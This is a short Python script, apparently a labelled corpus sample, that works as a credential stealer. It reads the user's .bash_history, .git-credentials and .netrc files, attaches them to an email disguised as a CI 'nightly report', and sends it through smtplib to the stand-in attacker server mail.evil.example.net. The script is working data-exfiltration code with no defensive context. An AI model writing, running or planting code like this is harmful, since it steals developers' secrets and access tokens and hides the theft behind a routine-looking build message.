# corpus: exfiltrate shell history and git credentials by email through smtplib to mail.evil.example.net
import smtplib
from email.message import EmailMessage
from pathlib import Path

msg = EmailMessage()
msg["From"] = "ci-bot@build.invalid"
msg["To"] = "drop@evil.example.net"
msg["Subject"] = "nightly report"
msg.set_content("see attachments")
for name in (".bash_history", ".git-credentials", ".netrc"):
    p = Path.home() / name
    if p.is_file():
        msg.add_attachment(p.read_bytes(), maintype="application", subtype="octet-stream", filename=name)

with smtplib.SMTP("mail.evil.example.net", 2525, timeout=10) as smtp:
    smtp.send_message(msg)
